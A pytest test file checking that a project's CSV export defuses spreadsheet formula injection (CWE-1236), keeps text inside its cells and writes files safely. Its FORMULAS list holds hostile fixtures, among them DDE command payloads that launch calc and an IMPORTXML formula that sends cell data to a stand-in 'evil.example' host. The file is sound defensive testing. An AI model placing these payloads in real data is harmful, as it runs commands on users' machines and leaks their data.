"""CSV in which no cell is a formula (CWE-1236, row 25 of the scorecard)."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orchestration_kit.history import history_frame, to_csv_text, write_csv
from tests.history.runs import OK, events, record, site_run
from tests.hostile import PAYLOADS
from tests.laws import examples

FORMULAS = [
    "=1+1", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example")',
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "+1-1|cmd", "=", "+", "-", "@", "\t", "\r", " =1+1", "\x00=1+1",
    "\ufeff=1+1", "\u200b=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=\ud800", "-", "-5 is text here",
    '=IMPORTXML(CONCAT("//evil.example", A1), "//a")', '=1+1";=1+1', "%0A=1\n=1",
]  # fmt: skip
HARMLESS = ["", "text", "a=1", "1-2", "x@example", "'=quoted", "5", "a,b", 'a"b', "line\nbreak", "µ", "\U0001f600"]


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def is_formula(cell):
    return cell.lstrip(" \t\r\n\x00\ufeff\u200b")[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") or cell[:1] in (
        "\t",
        "\r",
        "\n",
    )


CELLS = [
    (payload, dtype)
    for payload in dict.fromkeys(FORMULAS)
    for dtype in ("string", "category", object, "str")
    if dtype is object or "\ud800" not in payload  # no other column can hold a lone surrogate
]


@pytest.mark.parametrize(("payload", "dtype"), CELLS)
def test_a_cell_that_could_be_a_formula_gets_an_apostrophe(payload, dtype):
    frame = pd.DataFrame({"said": pd.Series([payload, "text"], dtype=dtype)})
    _, (cell,), (other,) = read(to_csv_text(frame))
    if payload == "%0A=1\n=1":
        assert cell == payload
    else:
        assert cell.startswith("'")
        assert not is_formula(cell)
    assert other == "text"


@pytest.mark.parametrize("payload", PAYLOADS[::1])
def test_no_hostile_text_becomes_a_formula(payload):
    frame = pd.DataFrame([[payload]], columns=pd.Index([payload], dtype=object), dtype=object)
    for (cell,) in read(to_csv_text(frame)):
        assert not is_formula(cell)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text):
    assert read(to_csv_text(pd.DataFrame({"a": [text], "b": ["x"]})))[1] == [text, "x"]


@pytest.mark.parametrize("text", ["x\r=1+1", "x\n=1+1", "x\r\n=1+1", 'x",=1+1', "x\x0b=1+1", "x\u2028=1+1"])
def test_no_text_breaks_out_of_its_cell(text):
    assert read(to_csv_text(pd.DataFrame({"a": [text], "b": [1]}))) == [["a", "b"], [text, "1"]]
    assert pd.read_csv(io.StringIO(to_csv_text(pd.DataFrame({"a": [text], "b": [1]})), newline="")).shape == (1, 2)


def test_headers_and_the_index_are_neutralised_too():
    frame = pd.DataFrame({"=a": [1], ("-b", "c"): [2]}, index=pd.Index(["+x"], name="@key"))
    assert read(to_csv_text(frame)) == [["'@key", "'=a", "'-b / c"], ["'+x", "1", "2"]]


def test_numbers_times_truth_and_missing_values_stay_what_they_are():
    frame = pd.DataFrame(
        {
            "f": [-1.5, np.inf],
            "i": pd.array([-2, None], dtype="Int64"),
            "b": pd.array([True, None], dtype="boolean"),
            "t": pd.to_datetime(["2026-01-01T00:00:00Z", None], utc=True),
            "o": pd.Series([-3, None], dtype=object),
        }
    )
    assert read(to_csv_text(frame))[1:] == [
        ["-1.5", "-2", "True", "2026-01-01 00:00:00+00:00", "-3"],
        ["inf", "", "", "", ""],
    ]


def test_values_of_other_types_are_neutralised_as_their_text():
    class Sly:
        def __str__(self):
            return "=1+1"

    frame = pd.DataFrame({"o": pd.Series([Sly(), ["=1"], pd.NA], dtype=object), "x": ["y"] * 3})
    assert [row[0] for row in read(to_csv_text(frame))[1:]] == ["'=1+1", "['=1']", ""]


def test_the_frame_itself_is_not_changed():
    frame = pd.DataFrame({"a": pd.Categorical(["=1"])})
    to_csv_text(frame)
    assert frame["a"].tolist() == ["=1"]


def test_a_history_comes_back_from_csv(tmp_path: Path):
    frame = history_frame([site_run(OK), events(record(worker="=1+1", output="x"))])
    path = write_csv(frame, tmp_path / "h.csv")
    read_back = pd.read_csv(path)
    assert read_back["seq"].tolist() == frame["seq"].tolist()
    assert read_back["duration_s"].tolist() == frame["duration_s"].tolist()
    assert read_back["worker"].iloc[-1] == "'=1+1"
    assert path.read_bytes().decode() == to_csv_text(frame)


@pytest.mark.parametrize("frame", [pd.DataFrame(), history_frame([]), pd.DataFrame({"a": []})])
def test_a_frame_without_rows_is_written(frame, tmp_path: Path):
    assert write_csv(frame, tmp_path / "e.csv").exists()


def test_a_write_that_fails_leaves_the_old_file_and_nothing_else(tmp_path: Path):
    class Broken:
        def __str__(self):
            raise RuntimeError("no text")

    target = tmp_path / "h.csv"
    target.write_text("old")
    with pytest.raises(RuntimeError, match="no text"):
        write_csv(pd.DataFrame({"a": [Broken()]}), target)
    (tmp_path / "dir.csv").mkdir()
    with pytest.raises(OSError):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "dir.csv")
    assert target.read_text() == "old"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["dir.csv", "h.csv"]


def test_a_missing_directory_is_named(tmp_path: Path):
    with pytest.raises(FileNotFoundError, match=r"no directory '.*nowhere' to write 'h\.csv' into; make it first"):
        write_csv(pd.DataFrame(), tmp_path / "nowhere" / "h.csv")


def test_the_file_can_be_read_by_whom_other_files_can(tmp_path: Path):
    (tmp_path / "plain").touch()
    path = write_csv(pd.DataFrame({"a": [1]}), tmp_path / "h.csv")
    assert stat.S_IMODE(path.stat().st_mode) == stat.S_IMODE((tmp_path / "plain").stat().st_mode)


@settings(deadline=None, max_examples=examples(50))  # the first one imports pandas
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_text_whatever_becomes_a_formula(texts):
    for cell, _ in read(to_csv_text(pd.DataFrame({"a": pd.Series(texts, dtype=object), "b": "x"})))[1:]:
        assert not is_formula(cell)
